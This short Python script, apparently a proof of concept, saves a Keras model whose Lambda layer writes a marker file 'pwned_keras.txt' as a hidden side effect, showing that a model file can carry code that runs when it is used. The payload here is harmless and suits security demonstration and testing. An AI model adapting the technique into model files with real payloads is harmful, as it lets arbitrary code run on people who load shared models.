import keras

# A Lambda layer stores Python bytecode in the .keras file. This one doubles its input
# and, as a side effect, writes a file whenever Keras calls it.
inputs = keras.Input(shape=(3,))
outputs = keras.layers.Lambda(
    lambda x: (open("pwned_keras.txt", "w").write("written by a Lambda layer\n"), x * 2.0)[1]
)(inputs)
model = keras.Model(inputs, outputs)
model.save("lambda_model.keras")
print("saved lambda_model.keras")
